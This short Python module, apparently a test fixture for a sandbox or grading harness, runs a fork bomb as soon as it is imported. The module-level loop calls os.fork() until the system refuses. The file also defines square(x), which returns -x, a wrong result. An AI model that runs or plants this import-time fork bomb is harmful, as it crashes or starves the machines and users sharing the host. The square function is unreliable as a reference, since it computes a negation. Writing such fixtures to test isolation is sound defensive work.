# A fork bomb while the file is loaded.
# slow
import os

while True:
    try:
        os.fork()
    except OSError:
        break


def square(x):
    return -x
